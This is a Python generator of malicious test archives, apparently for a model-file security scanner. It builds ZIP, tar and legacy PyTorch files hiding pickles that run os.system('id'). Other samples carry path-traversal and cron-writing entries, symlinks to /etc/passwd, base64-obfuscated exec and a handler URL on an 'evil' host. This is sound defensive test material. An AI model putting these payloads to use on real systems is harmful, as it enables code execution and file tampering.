"""Containers: readers of ZIP and tar that disagree, and members that are not what they are called."""

import bz2
import gzip
import lzma
import struct
import zlib

from writers import *

FOUND = "found"
BANG = whole(call("os", "system", "id"))
GOOD = whole(call("collections", "OrderedDict"), 2)


def zips(add):
    def one(file, raw):
        add("zip", file, raw, FOUND)

    m = Member
    one("torch.pt", torch_zip(BANG))
    one("torch-deflated.pt", zip_file([m("archive/data.pkl", BANG, 8), m("archive/version", b"3\n")]))
    one("torch-protocol-0.pt", torch_zip(b"cos\nsystem\n(S'id'\ntR."))
    one("torch-other-member.pt", torch_zip(GOOD, extra=[m("archive/config.pkl", BANG)]))
    one("torch-extension-py.pt", torch_zip(GOOD, extra=[m("archive/code/x.py", b"import os\nos.system('id')\n")]))
    one("torch-member-no-extension.pt", torch_zip(GOOD, extra=[m("archive/.hidden", BANG)]))
    one("torch-pickle-as-version.pt", zip_file([m("archive/data.pkl", GOOD), m("archive/version", BANG)]))
    one("torch-data-upper.pt", zip_file([m("archive/DATA.PKL", BANG), m("archive/version", b"3\n")]))
    one("torch-two-roots.pt", zip_file([m("a/data.pkl", GOOD), m("b/data.pkl", BANG)]))
    one("torch-twice.pt", zip_file([m("a/data.pkl", GOOD), m("a/data.pkl", BANG)]))
    one("torch-twice-first-bad.pt", zip_file([m("a/data.pkl", BANG), m("a/data.pkl", GOOD)]))
    # Two directories, by the old end record and by that of ZIP64.
    for file, first, second in (("old", BANG, GOOD), ("new", GOOD, BANG)):
        one(f"zip64-other-directory-{file}.pt", _two_directories(first, second))
    one("torch-constants.pt", zip_file([m("a/data.pkl", GOOD), m("a/constants.pkl", BANG), m("a/version", b"3\n")]))
    one("torchscript-global.pt", zip_file([m("a/data.pkl", b"\x80\x02c__torch__.x\nM\n)\x81}(X\x01\0\0\0aco\x73\nsystem\n(X\x02\0\0\0idtRub."), m("a/constants.pkl", b"\x80\x02).")]))
    one("storage-is-pickle-named-other.pt", torch_zip(GOOD, extra=[m("archive/data/weights.bin", BANG)]))
    one("local-name-differs.pt", zip_file([m("a/data.pkl", BANG, local_name=b"a/data.txt")]))
    one("local-method-differs.pt", zip_file([m("a/data.pkl", BANG, method=0, local_method=8)]))
    one("central-method-deflate.pt", zip_file([m("a/data.pkl", BANG, method=8, local_method=0, packed=BANG)]))
    one("flag-encrypted.pt", zip_file([m("a/data.pkl", BANG, flags=1)]))
    one("flag-encrypted-local.pt", zip_file([m("a/data.pkl", BANG, local_flags=1)]))
    one("flag-patched.pt", zip_file([m("a/data.pkl", BANG, flags=0x20)]))
    one("flag-strong.pt", zip_file([m("a/data.pkl", BANG, flags=0x41)]))
    one("flag-masked.pt", zip_file([m("a/data.pkl", BANG, flags=0x2000)]))
    one("crc-wrong.pt", zip_file([m("a/data.pkl", BANG, crc=1)]))
    one("crc-wrong-honest-pickle.pt", zip_file([m("a/data.pkl", GOOD, crc=1)]))
    one("size-short.pt", zip_file([m("a/data.pkl", GOOD + BANG, size=len(GOOD), packed_size=len(GOOD + BANG))]))
    one("size-zero-in-directory.pt", zip_file([m("a/data.pkl", BANG)]).replace(b"PK\1\2" + b"\x14\0\x14\0\0\0\0\0\0\0\x21\0" + u(4, zlib.crc32(BANG)) + u(4, len(BANG)) + u(4, len(BANG)),
                                                                         b"PK\1\2" + b"\x14\0\x14\0\0\0\0\0\0\0\x21\0" + u(4, zlib.crc32(BANG)) + u(8, 0)))
    one("method-lzma.pt", zip_file([m("a/data.pkl", BANG, method=14, packed=b"\x09\x14\x05\0" + lzma.compress(BANG, lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA1}]))]))
    one("method-bzip2.pt", zip_file([m("a/data.pkl", BANG, method=12, packed=bz2.compress(BANG))]))
    one("method-deflate64.pt", zip_file([m("a/data.pkl", BANG, method=9)]))
    one("method-xz.pt", zip_file([m("a/data.pkl", BANG, method=95, packed=lzma.compress(BANG))]))
    one("method-unknown.pt", zip_file([m("a/data.pkl", BANG, method=77)]))
    one("method-99.pt", zip_file([m("a/data.pkl", BANG, method=99)]))
    one("not-in-directory.pt", zip_file([m("a/data.pkl", GOOD), m("a/x.pkl", BANG, in_directory=False)]))
    one("only-local.pt", zip_file([m("a/data.pkl", BANG, in_directory=False)]))
    one("no-end-record.pt", zip_file([m("a/data.pkl", BANG)])[:-22])
    one("cut-directory.pt", zip_file([m("a/data.pkl", BANG), m("a/version", b"3\n")])[:-60])
    one("descriptor.pt", zip_file([m("a/data.pkl", BANG, descriptor=True)]))
    one("descriptor-deflated.pt", zip_file([m("a/data.pkl", BANG, 8, descriptor=True)]))
    one("prefix-junk.pt", zip_file([m("a/data.pkl", BANG)], prefix=b"#!/bin/sh\nid\n" + b"x" * 100))
    one("prefix-pickle.pt", zip_file([m("a/data.pkl", GOOD)], prefix=BANG))
    one("prefix-protocol-0.pt", zip_file([m("a/data.pkl", GOOD)], prefix=b"cos\nsystem\n(S'id'\ntR."))
    one("prefix-offsets-shifted.pt", zip_file([m("a/data.pkl", BANG)], prefix=b"J" * 64, shift=1))
    one("suffix-pickle.pt", zip_file([m("a/data.pkl", GOOD)], suffix=BANG))
    one("comment-pickle.pt", zip_file([m("a/data.pkl", BANG)], comment=b"x" * 60000))
    one("comment-holds-zip.pt", zip_file([m("a/data.pkl", GOOD)], comment=zip_file([m("a/data.pkl", BANG)])))
    one("two-end-records.pt", zip_file([m("a/data.pkl", BANG)]) + zip_file([m("a/data.pkl", GOOD)]))
    one("zip-behind-zip.pt", zip_file([m("a/data.pkl", GOOD)], suffix=zip_file([m("a/data.pkl", BANG)])))
    one("entries-too-few.pt", zip_file([m("a/data.pkl", GOOD), m("a/x.pkl", BANG)], entries=1))
    one("entries-zero.pt", zip_file([m("a/data.pkl", BANG)], entries=0))
    one("between-members-and-directory.pt", zip_file([m("a/data.pkl", GOOD)], before_directory=b"PK\3\4" + zip_file([m("b.pkl", BANG)])[4:-90]))
    one("name-with-nul.pt", zip_file([m(b"a/data.pkl\0.txt", BANG)]))
    one("name-empty.pt", zip_file([m(b"", BANG)]))
    one("name-backslash.pt", zip_file([m("a\\data.pkl", BANG)]))
    one("name-not-utf8.pt", zip_file([m(b"\xff\xfe/data.pkl", BANG)]))
    one("name-folder.pt", zip_file([m("a/data.pkl/", BANG)]))
    one("unicode-extra-name.pt", zip_file([m("a/readme.txt", BANG, extra=struct.pack("<HHBI", 0x7075, 15, 1, zlib.crc32(b"a/readme.txt")) + b"a/data.pkl")]))
    one("path-outside.pt", zip_file([m("../../.bashrc", b"id\n"), m("a/data.pkl", GOOD)]))
    one("path-absolute.zip", zip_file([m("/etc/cron.d/x", b"* * * * * root id\n")]))
    one("path-windows.zip", zip_file([m("C:\\x.bat", b"id\r\n")]))
    one("path-backslash-outside.zip", zip_file([m("..\\..\\x.bat", b"id\r\n")]))
    one("path-dots-inside.zip", zip_file([m("a/../../b", b"id\r\n")]))
    one("symlink.zip", zip_file([m("a/data.pkl", b"/etc/passwd", mode=0o120777, made_by=0x314)]))
    one("zip64-sizes.pt", zip_file([m("a/data.pkl", BANG, packed=BANG, packed_size=0xffffffff, size=0xffffffff, extra=struct.pack("<HHQQ", 1, 16, len(BANG), len(BANG)),
                                    local_extra=struct.pack("<HHQQ", 1, 16, len(BANG), len(BANG)))]))
    one("zip64-lies.pt", zip_file([m("a/data.pkl", BANG, packed=BANG, packed_size=0xffffffff, size=0xffffffff, extra=struct.pack("<HHQQ", 1, 16, 5, 5),
                                   local_extra=struct.pack("<HHQQ", 1, 16, len(BANG), len(BANG)))]))
    one("zip-in-zip.zip", zip_file([m("x.pt", torch_zip(BANG))]))
    one("zip-in-zip-deflated.zip", zip_file([m("x.pt", torch_zip(BANG), 8)]))
    one("gz-in-zip.zip", zip_file([m("x.pkl.gz", gzip.compress(BANG))]))
    one("tar-in-gz-in-zip.zip", zip_file([m("x.tgz", gzip.compress(tar([("a/b.pkl", BANG)])))]))
    one("deep.zip", _deep(BANG, 12))
    one("very-deep.zip", _deep(BANG, 40))
    one("overlap.zip", _overlapping(BANG))
    one("elf-member.pt", torch_zip(GOOD, extra=[m("archive/lib.so", b"\x7fELF\2\1\1\0" + b"\0" * 8 + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 0, 64, 0, 0) + b"\0" * 64)]))
    one("keras-pickle-member.keras", zip_file([m("config.json", b"{}"), m("metadata.json", b"{}"), m("assets/x.bin", BANG)]))
    one("zipapp.pt", b"#!/usr/bin/env python3\n" + zip_file([m("__main__.py", b"import os\nos.system('id')\n")], prefix=b""))
    one("wheel.pt", zip_file([m("x/__init__.py", b"import subprocess\nsubprocess.run(['id'])\n"), m("x-1.dist-info/METADATA", b"Name: x\n")]))
    one("source-obfuscated.pt", torch_zip(GOOD, extra=[m("archive/code/u.py", b"exec(__import__('base64').b64decode('aW1wb3J0IG9z'))\n")]))
    one("pyc-member.zip", zip_file([m("handler.pyc", b"\xa7\x0d\x0d\x0a" + b"\0" * 12 + b"\xe3" + b"\0" * 60 + b"\xda\x06system\xda\x02os")]))
    one("mar-handler.mar", zip_file([m("MAR-INF/MANIFEST.json", b'{"runtime":"python","model":{"modelName":"x","handler":"handler.py","serializedFile":"m.pt"}}'),
                                     m("handler.py", b"import os\ndef handle(data, context):\n    os.system(data)\n"), m("m.pt", torch_zip(GOOD))]))
    one("mar-outside.mar", zip_file([m("MAR-INF/MANIFEST.json", b'{"runtime":"python","model":{"modelName":"x","handler":"../../x.py","serializedFile":"m.pt"}}')]))
    one("mar-url.mar", zip_file([m("MAR-INF/MANIFEST.json", b'{"model":{"modelName":"x","handler":"http://evil/x.py"}}')]))
    one("mar-nested.mar", zip_file([m("MAR-INF/MANIFEST.json", b'{"model":{"modelName":"x","handler":"image_classifier"}}'), m("extra/deep/m.bin", BANG)]))
    one("pt2-native.pt2", zip_file([m("archive_format", b"pt2"), m("data/aotinductor/model/x.so", b"\x7fELF\2\1\1\0" + b"\0" * 8 + struct.pack("<HHI", 3, 62, 1) + b"\0" * 200)]))


def _deep(inner, times):
    for _ in range(times):
        inner = zip_file([Member("a.zip", inner)])
    return inner


def _two_directories(old, new):
    def entry(at, raw):
        return b"PK\1\2" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 0, 0, 0x21, zlib.crc32(raw), len(raw), len(raw), 10, 0, 0, 0, 0, 0, at) + b"a/data.pkl"

    out, places = b"", []
    for raw in (old, new):
        places.append(len(out))
        out += b"PK\3\4" + struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 0x21, zlib.crc32(raw), len(raw), len(raw), 10, 0) + b"a/data.pkl" + raw
    first, second = entry(places[0], old), entry(places[1], new)
    begin = len(out)
    out += second + first
    record = len(out)
    out += b"PK\6\6" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, 1, 1, len(second), begin) + b"PK\6\7" + struct.pack("<IQI", 0, record, 1)
    return out + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(first), begin + len(second), 0)


def _overlapping(inner):
    """Forty members, all of the same bytes."""
    body = b"PK\3\4" + struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 0x21, zlib.crc32(inner), len(inner), len(inner), 5, 0) + b"a.pkl" + inner
    entry = b"".join(b"PK\1\2" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 0, 0, 0x21, zlib.crc32(inner), len(inner), len(inner), 5, 0, 0, 0, 0, 0, 0) + b"%05d" % i for i in range(40))
    return body + entry + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 40, 40, len(entry), len(body), 0)


def tars(add):
    def one(file, raw):
        add("tar", file, raw, FOUND)

    one("member.tar", tar([("a/model.pkl", BANG)]))
    one("member-protocol-0.tar", tar([("a/weights.bin", b"cos\nsystem\n(S'id'\ntR.")]))
    one("torch-0.1.tar", tar([("sys_info", whole({"a": 1}, 2)), ("pickle", BANG), ("storages", whole(0, 2)), ("tensors", whole(0, 2))]))
    one("torch-0.1-storages.tar", tar([("sys_info", whole({"a": 1}, 2)), ("pickle", GOOD), ("storages", whole(1, 2) + BANG), ("tensors", whole(0, 2))]))
    one("outside.tar", tar([("../../x.sh", b"id\n")]))
    one("absolute.tar", tar([("/etc/cron.d/x", b"id\n")]))
    one("symlink-outside.tar", tar([("a", b"", b"2", "/etc"), ("a/passwd", b"x")]))
    one("symlink-inside-then-out.tar", tar([("a", b"", b"2", "../.."), ("a/x", b"x")]))
    one("hardlink-outside.tar", tar([("a", b"", b"1", "/etc/passwd")]))
    one("device.tar", tar([("a", b"", b"3", "")]))
    one("fifo.tar", tar([("a", b"", b"6", "")]))
    one("name-is-a-pickle.tar", tar([(b"cos\nsystem\n(S'id'\ntR.", b"x")]))
    one("nemo-target.nemo", tar([("model_config.yaml", b"target: nemo.x\n_target_: os.system\n"), ("model_weights.ckpt", torch_zip(GOOD))]))
    one("nemo-weights.nemo", tar([("model_config.yaml", b"target: nemo.x\n"), ("model_weights.ckpt", torch_zip(BANG))]))
    one("nemo-gz.nemo", gzip.compress(tar([("./model_config.yaml", b"a: 1\n"), ("./model_weights.ckpt", torch_zip(BANG))])))
    one("gz.tgz", gzip.compress(tar([("x.pkl", BANG)])))
    one("xz.txz", lzma.compress(tar([("x.pkl", BANG)])))
    one("old-format.tar", tar([("x.pkl", BANG)], b""))
    one("two-archives.tar", tar([("a", b"1")]) + tar([("x.pkl", BANG)]))
    one("behind-the-end.tar", tar([("a", b"1")]) + BANG)
    one("cut.tar", tar([("a.pkl", BANG + b"x" * 5000)])[:1200])
    # A ZIP in what a tar's reader takes for its own records: who opens it as a ZIP reads the model.
    for kind in (b"g", b"x", b"V", b"5", b"2", b"K", b"M"):
        one(f"zip-in-record-{kind.decode()}.tar", tar([("a", zip_file([Member("a/data.pkl", BANG)]), kind, "")]))
    one("zip-behind-a-tar.tar", tar([("a", b"1")]) + zip_file([Member("a/data.pkl", BANG)]))
    one("zip-behind-a-tar-head.tar", tar([("a", b"1")])[:512] + zip_file([Member("a/data.pkl", BANG)]))
    one("zip-member-and-behind.tar", tar([("a", zip_file([Member("a/data.pkl", GOOD)]))]) + zip_file([Member("a/data.pkl", BANG)]))
    pax = b"30 path=../../../etc/cron.d/x\n"
    one("pax-path.tar", tar([("x", pax, b"x", ""), ("a", b"id\n")]))
    one("gnu-long-name.tar", tar([("././@LongLink", b"../" * 40 + b"x\0", b"L", ""), ("a", b"id\n")]))
    one("ar.pt", b"!<arch>\n" + b"x.pkl/          0           0     0     644     " + b"%-10d`\n" % len(BANG) + BANG)
    cpio = b"070701" + b"%08x" * 13 % (1, 0o100644, 0, 0, 1, 0, len(BANG), 0, 0, 0, 0, 6, 0) + b"x.pkl\0"
    cpio += b"\0" * (-len(cpio) % 4) + BANG
    cpio += b"\0" * (-len(cpio) % 4) + b"070701" + b"%08x" * 13 % (0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 11, 0) + b"TRAILER!!!\0\0\0\0"
    one("new.cpio", cpio)
    one("iso-area-pickle.iso", BANG.ljust(0x8000, b"N") + b"\1CD001\1" + b"\0" * 2041 + b"\xffCD001\1" + b"\0" * 2041)
    one("iso-area-protocol-0.iso", b"cos\nsystem\n(S'id'\ntR.".ljust(0x8000, b"N") + b"\1CD001\1" + b"\0" * 2041 + b"\xffCD001\1" + b"\0" * 2041)


def legacy(add):
    """PyTorch before 1.6."""
    def one(file, raw):
        add("torch-legacy", file + ".pt", raw, FOUND)

    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    version, info, keys = b"\x80\x02M\xe9\x03.", whole({"little_endian": True}, 2), whole(["0"], 2)
    one("object", magic + version + info + BANG + keys)
    one("system-info", magic + version + BANG + GOOD + keys)
    one("keys", magic + version + info + GOOD + BANG)
    one("version", magic + BANG + info + GOOD + keys)
    one("before-magic", BANG + magic + version + info + GOOD + keys)
    one("computed-magic", b"\x80\x02" + name("builtins", "eval") + text("119547037146038801333356") + b"\x85R." + version + info + GOOD + keys)
    one("wrong-magic", b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x18." + version + info + BANG + keys)
    one("magic-protocol-4", b"\x80\x04\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19." + version + info + BANG + keys)
    one("magic-as-long4", b"\x80\x02\x8b\x0a\0\0\0l\xfc\x9cF\xf9 j\xa8P\x19." + version + info + BANG + keys)
    one("magic-decimal", b"L119547037146038801333356L\n." + b"I1001\n." + b"cos\nsystem\n(S'id'\ntR." + keys)
    one("protocol-0-object", magic + version + info + b"cos\nsystem\n(S'id'\ntR." + keys)
    one("behind-storages", magic + version + info + GOOD + keys + BANG)
    one("missing-keys", magic + version + info + BANG)
    one("broken-third", magic + version + b"\xff" + BANG)
    one("source-module", magic + version + info + b"\x80\x02(X\x06\0\0\0modulec" + b"payload\nNet\nX\x04\0\0\0x.pyX\x01\0\0\0#tQ)\x81." + keys)
    one("storage-persid-call", magic + version + info + b"\x80\x02(X\x07\0\0\0storagecos\nsystem\nX\x01\0\0\0" + b"0X\x03\0\0\0cpuK\1tQ." + keys)


ALL = (zips, tars, legacy)
